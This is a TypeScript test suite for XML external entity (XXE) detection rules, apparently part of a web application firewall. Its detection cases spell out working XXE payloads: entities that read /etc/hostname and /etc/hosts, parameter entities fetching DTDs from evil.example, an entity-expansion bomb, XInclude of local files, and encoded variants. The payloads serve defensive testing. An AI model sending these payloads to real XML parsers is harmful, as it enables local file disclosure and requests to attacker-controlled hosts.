import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './xxe.ts';
import { matchAll, timeAll, ruleMetaProblems, checkAll, testScope } from './lib/testing.ts';
import type { InspectionScope } from '../types.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('detects external entities, parameter entities, internal entities, external DTDs and XInclude', () => {
  const cases: [string, string][] = [
    ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', '937100'],
    ['<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', '937100'],
    ['<!DOCTYPE r [<!ENTITY   %   p "x">]>', '937100'],
    ['<!ENTITY x PUBLIC "-//A//B" "http://evil.example/e">', '937100'],
    ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>', '937110'],
    ['<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>', '937120'],
    ['<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts" parse="text"/></r>', '937120'],
    ['%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E', '937100'],
    ['&lt;!ENTITY x SYSTEM "file:///a"&gt;', '937100'],
  ];
  for (const [v, id] of cases) assert.ok(matchAll(rules, v, 'json').includes(id), `missed ${id} on ${v}`);
});

test('does not flag HTML doctypes and ordinary XML', () => {
  const benign = [
    '<!DOCTYPE html><html><body><p>Bonjour</p></body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<?xml version="1.0"?><order><id>1</id></order>',
    'The ENTITY keyword declares an entity',
    '<!-- a comment -->',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b, 'json'), [], `false positive on ${b}`);
  assert.ok(matchAll(rules, '<!DOCTYPE note PUBLIC "-//X//Y" "http://evil.example/n.dtd">', 'json', 2).includes('937121'));
});

test('reads the XML body facts from the engine', () => {
  const base = testScope([]);
  const scope: InspectionScope = { ...base, phase: 'body', body: { kind: 'xml', contentType: 'application/xml', truncated: false, limited: false, xmlDoctype: true, xmlEntities: 1, xmlExternalEntity: true, text: '' } };
  assert.equal(checkAll(rules, scope).length, 1);
  const clean: InspectionScope = { ...base, phase: 'body', body: { kind: 'xml', contentType: 'application/xml', truncated: false, limited: false, text: '<a/>' } };
  assert.deepEqual(checkAll(rules, clean), []);
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['<!'.repeat(32768), '<!entity '.repeat(7281), '<!doctype x'.repeat(5957), '<!ENTITY %'.repeat(6553), 'xinclude'.repeat(8192)];
  for (const s of inputs) {
    const ms = timeAll(rules, s, ['json', 'xml', 'body']);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});
